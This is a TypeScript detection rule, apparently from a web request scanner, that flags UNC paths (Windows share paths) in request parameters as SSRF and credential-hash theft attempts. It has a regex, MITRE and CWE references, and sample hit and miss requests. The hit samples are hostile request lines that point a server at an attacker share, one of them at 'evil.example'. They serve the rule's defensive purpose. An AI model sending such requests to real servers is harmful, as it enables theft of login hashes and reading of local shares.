import { defineRule } from '../rule.ts'

export default defineRule({
  id: 'ssrf/unc-path',
  title: 'Windows share as a parameter (UNC path)',
  why: 'Makes a Windows server open a share of the attacker and hand over its login hash, or read a local share.',
  ja: {
    title: 'Windows 共有を指す値（UNC パス）',
    why: 'Windows サーバーに攻撃者の共有フォルダーを開かせてログインのハッシュを盗む、またはローカルの共有を読ませようとしています。',
  },
  severity: 'high',
  stage: 'inject',
  attack: ['T1187', 'T1190'],
  cwe: [40],
  refs: [
    'https://cwe.mitre.org/data/definitions/40.html',
    'https://attack.mitre.org/techniques/T1187/',
  ],

  where: ['arg', 'path'],
  needs: ['\\\\'],
  match:
    /^(?:[\w.[\]-]{1,60}=|\/)\s?\\\\(?:[\w-]{1,60}(?:\.[\w-]{1,60}){1,6}|::1|localhost)(?:@\w{1,10})?[\\/][\w$.]/i,

  hits: [
    'GET /view?f=%5C%5C203.0.113.9%5Cshare%5Ca.txt HTTP/1.1',
    'GET /%5C%5Cevil.example/apache HTTP/1.1',
    'GET /view?f=%5C%5C%3A%3A1%5Cc$%5Cusers HTTP/1.1',
    'GET /view?f=%5C%5Clocalhost%5Cshare%5Ca.txt HTTP/1.1',
  ],
  misses: [
    'GET /a?re=%5C%5Cd+%5C%5Cw HTTP/1.1',
    'GET /a?x=%5C%5Cn HTTP/1.1',
    'GET /a?path=%5C%5Cmenu%5C%5Citem HTTP/1.1',
    { request: 'GET / HTTP/1.1', agent: '/%5C%5Cevil.example/apache' },
  ],
})
